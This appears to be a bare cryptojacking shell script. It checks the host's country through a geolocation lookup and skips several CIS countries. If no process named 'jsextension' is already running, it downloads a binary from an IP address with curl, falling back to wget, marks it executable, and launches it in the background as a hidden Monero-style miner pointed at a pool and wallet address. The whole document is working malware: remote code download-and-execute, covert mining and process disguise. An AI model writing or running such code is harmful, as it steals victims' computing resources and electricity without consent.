IP=$(curl -k https://geo.evil.example/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  var=$(pgrep jsextension)
  if [ -z "$var" ]; then
    curl http://203.0.113.228/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then
      wget http://203.0.113.228/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.evil.example:443 -u 4vGMbAQb8o5KDjHDAkys6dgjj8j8ryAwB5di7VCjTvewZzdz1EngJM6Mf3n1SLLzXEJEFWL9bA6nhhJiMC2FWtYP7ZgBn6v --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
